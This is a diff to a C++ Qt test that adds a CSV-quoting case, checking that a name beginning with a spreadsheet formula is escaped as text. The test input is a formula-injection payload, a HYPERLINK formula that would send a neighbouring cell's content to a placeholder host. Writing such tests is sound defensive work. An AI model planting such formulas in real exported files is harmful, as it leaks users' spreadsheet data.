@@ -255,6 +255,9 @@ void TestDGraphMet::csvQuoting_data()
                                      << "\"Ro\rssi\"";
     QTest::newRow("spaces stay") << " Rossi "
                                  << " Rossi ";
+    // A name a spreadsheet would run as a formula is shown as text.
+    QTest::newRow("formula") << "=HYPERLINK(\"http://x/?\"&B3,\"Click\")"
+                             << "\"'=HYPERLINK(\"\"http://x/?\"\"&B3,\"\"Click\"\")\"";
 }
 
 void TestDGraphMet::csvQuoting()
